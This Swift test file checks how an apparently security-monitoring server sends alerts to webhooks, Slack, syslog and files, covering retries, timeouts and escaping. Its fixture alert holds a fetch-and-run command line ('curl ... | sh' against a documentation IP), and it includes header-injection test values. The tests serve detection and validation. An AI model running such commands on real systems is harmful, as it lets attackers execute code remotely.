import Foundation
import HerdwatchStore
import Hummingbird
import HummingbirdTesting
import Logging
import Synchronization
import Testing

@testable import HerdwatchServer

#if canImport(Glibc)
import Glibc
#endif

/// The notify actions against real receivers on 127.0.0.1 that the tests start: a Hummingbird app
/// for webhooks and Slack, a plain TCP listener for syslog, a file.
@Suite struct NotifyTests {
    static let alert = StoredAlert(
        id: "r1:web1:e1,e2", host: "web1", time: 1_795_428_000_123, ruleID: "r1", ruleTitle: "Curl piped to a shell", level: "high",
        severity: 73, correlation: nil, entityID: "E-curl", pid: 4242, executable: "/usr/bin/curl",
        commandLine: "curl -s http://198.51.100.7/x | sh", userName: "www-data", eventIDs: ["e1", "e2"], tags: ["attack.execution"],
        json: "{}")
    static let notification = AlertNotification(
        alert: alert, policy: "contain-web", hostTags: ["role=web"], dryRun: true, actions: ["notify", "kill"])

    // MARK: webhook

    @Test func aWebhookGetsTheAlertAsJSONWithItsHeaders() async throws {
        try await withReceiver([]) { port, receiver in
            let target = try NotifyTarget(
                kind: "webhook",
                options: [
                    "url": "http://127.0.0.1:\(port)/hook", "header.Authorization": "Bearer s3cret", "ui_url": "https://herdwatch.example/",
                ])
            let outcome = await withNotifier { await $0.send(Self.notification, to: target) }
            #expect(outcome == NotifyOutcome(succeeded: true, attempts: 1, detail: "HTTP 200 after 1 attempt"))
            let request = try #require(receiver.requests.first)
            #expect(request.headers[.authorization] == "Bearer s3cret")
            #expect(request.headers[.contentType] == "application/json")
            let json = try #require(try JSONSerialization.jsonObject(with: Data(request.body)) as? [String: Any])
            #expect(json["alert_id"] as? String == "r1:web1:e1,e2")
            #expect(json["rule_id"] as? String == "r1")
            #expect(json["rule_title"] as? String == "Curl piped to a shell")
            #expect(json["level"] as? String == "high")
            #expect(json["severity"] as? Int == 73)
            #expect(json["host"] as? String == "web1")
            #expect(json["host_tags"] as? [String] == ["role=web"])
            #expect(json["time"] as? String == "2026-11-23T10:00:00.123Z")
            #expect(json["entity_id"] as? String == "E-curl")
            #expect(json["pid"] as? Int == 4242)
            #expect(json["executable"] as? String == "/usr/bin/curl")
            #expect(json["command_line"] as? String == "curl -s http://198.51.100.7/x | sh")
            #expect(json["user"] as? String == "www-data")
            #expect(json["tags"] as? [String] == ["attack.execution"])
            #expect(json["event_ids"] as? [String] == ["e1", "e2"])
            #expect(json["policy"] as? String == "contain-web")
            #expect(json["dry_run"] as? Bool == true)
            #expect(json["actions"] as? [String] == ["notify", "kill"])
            #expect(json["link"] as? String == "https://herdwatch.example/process/E-curl")
            #expect(json["correlation"] == nil, "absent values are left out")
        }
    }

    @Test func twoUnavailableRepliesAreRetriedUntilTheThirdAttemptIsAccepted() async throws {
        try await withReceiver([.init(status: .serviceUnavailable), .init(status: .serviceUnavailable)]) { port, receiver in
            let target = try NotifyTarget(kind: "webhook", options: ["url": "http://127.0.0.1:\(port)/hook", "backoff": "10ms"])
            let outcome = await withNotifier { await $0.send(Self.notification, to: target) }
            #expect(outcome == NotifyOutcome(succeeded: true, attempts: 3, detail: "HTTP 200 after 3 attempts"))
            #expect(receiver.requests.count == 3)
        }
    }

    @Test func aBadRequestIsFinal() async throws {
        try await withReceiver([.init(status: .badRequest, body: "unknown field\n")]) { port, receiver in
            let target = try NotifyTarget(kind: "webhook", options: ["url": "http://127.0.0.1:\(port)/hook", "backoff": "10ms"])
            let outcome = await withNotifier { await $0.send(Self.notification, to: target) }
            #expect(outcome == NotifyOutcome(succeeded: false, attempts: 1, detail: "HTTP 400 (unknown field) after 1 attempt"))
            #expect(receiver.requests.count == 1)
        }
    }

    @Test func tooManyRequestsWaitsForASmallRetryAfterAndGivesUpOnALongOne() async throws {
        try await withReceiver([.init(status: .tooManyRequests, retryAfter: "1")]) { port, receiver in
            let target = try NotifyTarget(kind: "webhook", options: ["url": "http://127.0.0.1:\(port)/hook", "backoff": "10ms"])
            let start = ContinuousClock.now
            let outcome = await withNotifier { await $0.send(Self.notification, to: target) }
            #expect(outcome.succeeded && outcome.attempts == 2)
            #expect(ContinuousClock.now - start >= .seconds(1), "Retry-After: 1 is longer than the backoff")
        }
        try await withReceiver([.init(status: .tooManyRequests, retryAfter: "3600")]) { port, receiver in
            let target = try NotifyTarget(kind: "webhook", options: ["url": "http://127.0.0.1:\(port)/hook", "max_retry_after": "30s"])
            let outcome = await withNotifier { await $0.send(Self.notification, to: target) }
            #expect(!outcome.succeeded && outcome.attempts == 1)
            #expect(outcome.detail.contains("Retry-After"), "\(outcome.detail)")
        }
    }

    @Test func aClosedPortFailsAfterEveryAttempt() async throws {
        // A bound socket that does not listen: connecting is refused, and nobody else can take the port meanwhile.
        let closed = try LocalSocket(type: SOCK_STREAM)
        defer { closed.close() }
        let target = try NotifyTarget(
            kind: "webhook", options: ["url": "http://127.0.0.1:\(closed.port)/hook", "attempts": "4", "backoff": "10ms", "max_backoff": "40ms"])
        let start = ContinuousClock.now
        let outcome = await withNotifier { await $0.send(Self.notification, to: target) }
        #expect(!outcome.succeeded)
        #expect(outcome.attempts == 4)
        #expect(outcome.detail.hasSuffix("after 4 attempts"), "\(outcome.detail)")
        #expect(outcome.detail.contains("refused"), "\(outcome.detail)")
        #expect(ContinuousClock.now - start < .seconds(5))
    }

    @Test func aReceiverThatDoesNotAnswerTimesOutEachAttempt() async throws {
        try await withReceiver([.init(status: .ok, delay: .seconds(3))]) { port, receiver in
            let target = try NotifyTarget(
                kind: "webhook", options: ["url": "http://127.0.0.1:\(port)/hook", "attempts": "2", "timeout": "200ms", "backoff": "10ms"])
            let start = ContinuousClock.now
            let outcome = await withNotifier { await $0.send(Self.notification, to: target) }
            #expect(outcome == NotifyOutcome(succeeded: true, attempts: 2, detail: "HTTP 200 after 2 attempts"))
            #expect(ContinuousClock.now - start < .seconds(2), "the first attempt gave up after 200 ms")
        }
    }

    // MARK: Slack

    @Test func slackGetsOneTextWithTheAlertAndALink() async throws {
        try await withReceiver([]) { port, receiver in
            let target = try NotifyTarget(
                kind: "slack", options: ["url": "http://127.0.0.1:\(port)/hook", "ui_url": "https://herdwatch.example"])
            var notification = Self.notification
            notification.dryRun = false
            notification.alert.commandLine = "curl -s `id` <x> && sh"
            let outcome = await withNotifier { await $0.send(notification, to: target) }
            #expect(outcome.succeeded)
            let body = try #require(receiver.requests.first).body
            let json = try #require(try JSONSerialization.jsonObject(with: Data(body)) as? [String: Any])
            #expect(Array(json.keys) == ["text"])
            let text = try #require(json["text"] as? String)
            #expect(
                text == """
                    *HIGH* (severity 73) Curl piped to a shell
                    Host: *web1*
                    Process: /usr/bin/curl (pid 4242, user www-data)
                    Command line: `curl -s 'id' &lt;x&gt; &amp;&amp; sh`
                    Policy: contain-web
                    <https://herdwatch.example/process/E-curl|Open in Herdwatch>
                    """)
        }
    }

    // MARK: syslog

    @Test func syslogOverTCPIsOneOctetCountedRFC5424Message() async throws {
        let listener = try LocalSocket(type: SOCK_STREAM, listening: true)
        defer { listener.close() }
        var notification = Self.notification
        notification.alert.ruleTitle = #"Curl piped to "sh" [x]"#
        let target = try NotifyTarget(kind: "syslog", options: ["address": "127.0.0.1:\(listener.port)", "facility": "local1"])
        let outcome = await withNotifier { await $0.send(notification, to: target) }
        #expect(outcome == NotifyOutcome(succeeded: true, attempts: 1, detail: "syslog tcp 127.0.0.1:\(listener.port) after 1 attempt"))

        let frame = String(decoding: try listener.acceptAndReadToEnd(), as: UTF8.self)
        let space = try #require(frame.firstIndex(of: " "))
        let length = try #require(Int(frame[..<space]))
        let message = frame[frame.index(after: space)...]
        #expect(length == message.utf8.count, "one frame, counted in bytes")
        // local1 (17) * 8 + error (3, for high).
        #expect(message.hasPrefix("<139>1 2026-11-23T10:00:00.123Z web1 herdwatch \(getpid()) alert [alert@32473 alert_id=\"r1:web1:e1,e2\" rule_id=\"r1\" "))
        #expect(message.contains(#" rule_title="Curl piped to \"sh\" [x\]" "#))
        #expect(message.contains(#" command_line="curl -s http://198.51.100.7/x | sh" "#))
        #expect(message.contains(#" event_ids="e1,e2" policy="contain-web" dry_run="true" actions="notify,kill"]"#))
        #expect(message.hasSuffix(#"] [dry run] [high] Curl piped to "sh" [x] on web1: /usr/bin/curl (pid 4242)"#))
    }

    @Test func syslogOverUDPIsOneDatagram() async throws {
        let receiver = try LocalSocket(type: SOCK_DGRAM)
        defer { receiver.close() }
        let target = try NotifyTarget(kind: "syslog", options: ["address": "127.0.0.1:\(receiver.port)", "protocol": "udp"])
        let outcome = await withNotifier { await $0.send(Self.notification, to: target) }
        #expect(outcome.succeeded)
        let datagram = String(decoding: try receiver.read(), as: UTF8.self)
        #expect(datagram.hasPrefix("<131>1 2026-11-23T10:00:00.123Z web1 herdwatch "), "no octet count in a datagram")
    }

    // MARK: file

    @Test func aFileGetsOneJSONLinePerNotification() async throws {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("herdwatch-notify-\(UUID().uuidString).jsonl").path
        defer { try? FileManager.default.removeItem(atPath: path) }
        let target = try NotifyTarget(kind: "file", options: ["path": path])
        var second = Self.notification
        second.alert.id = "r1:web1:e3"
        let outcomes = await withNotifier { notifier in
            [await notifier.send(Self.notification, to: target), await notifier.send(second, to: target)]
        }
        #expect(outcomes.allSatisfy { $0 == NotifyOutcome(succeeded: true, attempts: 1, detail: "appended to \(path) after 1 attempt") })
        let lines = try String(contentsOfFile: path, encoding: .utf8).split(separator: "\n", omittingEmptySubsequences: false)
        #expect(lines.count == 3 && lines[2].isEmpty, "two lines, each ended")
        let ids = try lines.prefix(2).map { line in
            try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])["alert_id"] as? String
        }
        #expect(ids == ["r1:web1:e1,e2", "r1:web1:e3"])
    }

    @Test func anUnwritableFileIsAFailureNotACrash() async throws {
        let target = NotifyTarget(.file(path: "/nonexistent-folder/notify.jsonl"))
        let outcome = await withNotifier { await $0.send(Self.notification, to: target) }
        #expect(!outcome.succeeded && outcome.attempts == 1)
        #expect(outcome.detail.hasPrefix("cannot open /nonexistent-folder/notify.jsonl"))
    }

    // MARK: parsing

    @Test(arguments: [
        ("pager", [:], "kind"),
        ("webhook", [:], "url"),
        ("webhook", ["url": "ftp://example.com/x"], "url"),
        ("webhook", ["url": "https://example.com/x", "atempts": "3"], "atempts"),
        ("webhook", ["url": "https://example.com/x", "attempts": "0"], "attempts"),
        ("webhook", ["url": "https://example.com/x", "timeout": "soon"], "timeout"),
        ("webhook", ["url": "https://example.com/x", "header.X-Evil": "a\r\nb: c"], "header.X-Evil"),
        ("webhook", ["url": "https://example.com/x", "header.Bad Name": "a"], "header.Bad Name"),
        ("slack", ["url": "https://hooks.example/x", "ui_url": "herdwatch.example"], "ui_url"),
        ("syslog", ["address": "siem.example"], "address"),
        ("syslog", ["address": "siem.example:70000"], "address"),
        ("syslog", ["address": "siem.example:6514", "protocol": "tls"], "protocol"),
        ("syslog", ["address": "siem.example:6514", "facility": "local9"], "facility"),
        ("file", ["path": "/tmp/x", "attempts": "3"], "attempts"),
    ] as [(String, [String: String], String)])
    func aBadTargetNamesItsField(kind: String, options: [String: String], field: String) {
        let error = #expect(throws: NotifyTargetError.self) { _ = try NotifyTarget(kind: kind, options: options) }
        #expect(error?.field == field, "\(String(describing: error))")
    }

    @Test func goodTargetsParse() throws {
        let webhook = try NotifyTarget(
            kind: "webhook",
            options: ["url": "https://hooks.example/x", "attempts": "3", "timeout": "2s", "backoff": "250ms", "header.X-Token": "t"])
        #expect(webhook.kind == "webhook")
        #expect(webhook.retry.attempts == 3 && webhook.retry.attemptTimeout == .seconds(2) && webhook.retry.initialBackoff == .milliseconds(250))
        guard case .webhook(let endpoint) = webhook.destination else { Issue.record("not a webhook"); return }
        #expect(endpoint.headers == ["X-Token": "t"])
        let syslog = try NotifyTarget(kind: "syslog", options: ["address": "[::1]:514", "protocol": "UDP", "facility": "10", "app_name": "hw"])
        var expected = SyslogEndpoint(host: "::1", port: 514, transport: .udp)
        expected.facility = 10
        expected.appName = "hw"
        #expect(syslog.destination == .syslog(expected))
        #expect(try NotifyTarget(kind: "file", options: ["path": "-"]).destination == .file(path: "-"))
    }

    @Test func backoffDoublesWithJitterUpToItsCeiling() {
        var policy = RetryPolicy()
        policy.initialBackoff = .milliseconds(100)
        policy.maximumBackoff = .milliseconds(300)
        for _ in 0..<50 {
            #expect((.milliseconds(50) ... .milliseconds(100)).contains(policy.backoff(after: 1)))
            #expect((.milliseconds(100) ... .milliseconds(200)).contains(policy.backoff(after: 2)))
            #expect((.milliseconds(150) ... .milliseconds(300)).contains(policy.backoff(after: 5)))
        }
        #expect(Notifier.retryAfter("120") == .seconds(120))
        #expect(Notifier.retryAfter("soon") == nil)
    }

    // MARK: helpers

    func withNotifier<Result: Sendable>(_ body: (Notifier) async -> Result) async -> Result {
        let notifier = Notifier(logger: Logger(label: "test-notify"))
        let result = await body(notifier)
        await notifier.shutdown()
        return result
    }

    func withReceiver(_ replies: [Receiver.Reply], _ test: @Sendable (Int, Receiver) async throws -> Void) async throws {
        let receiver = Receiver(replies: replies)
        let router = Router()
        router.post("/hook") { request, _ in try await receiver.take(request) }
        try await Application(router: router).test(.live) { client in
            try await test(try #require(client.port), receiver)
        }
    }
}

/// Records what a webhook receives and answers as scripted (then 200).
final class Receiver: Sendable {
    struct Reply: Sendable {
        var status: HTTPResponse.Status
        var retryAfter: String?
        var body = ""
        /// How long the receiver waits before it answers.
        var delay: Duration = .zero
    }

    struct Received: Sendable {
        var headers: HTTPFields
        var body: [UInt8]
    }

    let replies: [Reply]
    private let received = Mutex<[Received]>([])

    init(replies: [Reply]) { self.replies = replies }

    var requests: [Received] { received.withLock { $0 } }

    func take(_ request: Request) async throws -> Response {
        var request = request
        let body = try await request.collectBody(upTo: 1 << 20)
        let index = received.withLock { received in
            received.append(Received(headers: request.headers, body: Array(body.readableBytesView)))
            return received.count - 1
        }
        let reply = index < replies.count ? replies[index] : Reply(status: .ok)
        if reply.delay > .zero { try? await Task.sleep(for: reply.delay) }
        var headers: HTTPFields = [:]
        if let retryAfter = reply.retryAfter { headers[.retryAfter] = retryAfter }
        return Response(status: reply.status, headers: headers, body: ResponseBody(byteBuffer: ByteBuffer(string: reply.body)))
    }
}

/// A socket bound to 127.0.0.1 on a port of the kernel's choosing; blocking, with a 5 s receive timeout.
struct LocalSocket {
    let descriptor: Int32
    let port: Int

    init(type: __socket_type, listening: Bool = false) throws {
        let descriptor = socket(AF_INET, Int32(type.rawValue) | Int32(SOCK_CLOEXEC.rawValue), 0)
        var address = sockaddr_in()
        address.sin_family = sa_family_t(AF_INET)
        address.sin_addr.s_addr = inet_addr("127.0.0.1")
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        let bound = withUnsafeMutablePointer(to: &address) { pointer in
            pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) { address in
                bind(descriptor, address, length) == 0 && getsockname(descriptor, address, &length) == 0
            }
        }
        var timeout = timeval(tv_sec: 5, tv_usec: 0)
        setsockopt(descriptor, SOL_SOCKET, SO_RCVTIMEO, &timeout, socklen_t(MemoryLayout<timeval>.size))
        guard descriptor >= 0, bound, !listening || listen(descriptor, 8) == 0 else {
            throw POSIXError(POSIXErrorCode(rawValue: errno) ?? .EIO)
        }
        self.descriptor = descriptor
        port = Int(UInt16(bigEndian: address.sin_port))
    }

    /// One datagram, or what one read returns.
    func read(from descriptor: Int32? = nil) throws -> [UInt8] {
        var buffer = [UInt8](repeating: 0, count: 65_536)
        let count = buffer.withUnsafeMutableBytes { recv(descriptor ?? self.descriptor, $0.baseAddress, $0.count, 0) }
        guard count >= 0 else { throw POSIXError(POSIXErrorCode(rawValue: errno) ?? .EIO) }
        return Array(buffer.prefix(count))
    }

    /// Accepts one connection (already queued) and reads until the peer closes it.
    func acceptAndReadToEnd() throws -> [UInt8] {
        let connection = accept(descriptor, nil, nil)
        guard connection >= 0 else { throw POSIXError(POSIXErrorCode(rawValue: errno) ?? .EIO) }
        defer { Glibc.close(connection) }
        var timeout = timeval(tv_sec: 5, tv_usec: 0)
        setsockopt(connection, SOL_SOCKET, SO_RCVTIMEO, &timeout, socklen_t(MemoryLayout<timeval>.size))
        var bytes: [UInt8] = []
        while true {
            let chunk = try read(from: connection)
            if chunk.isEmpty { return bytes }
            bytes += chunk
        }
    }

    func close() { Glibc.close(descriptor) }
}
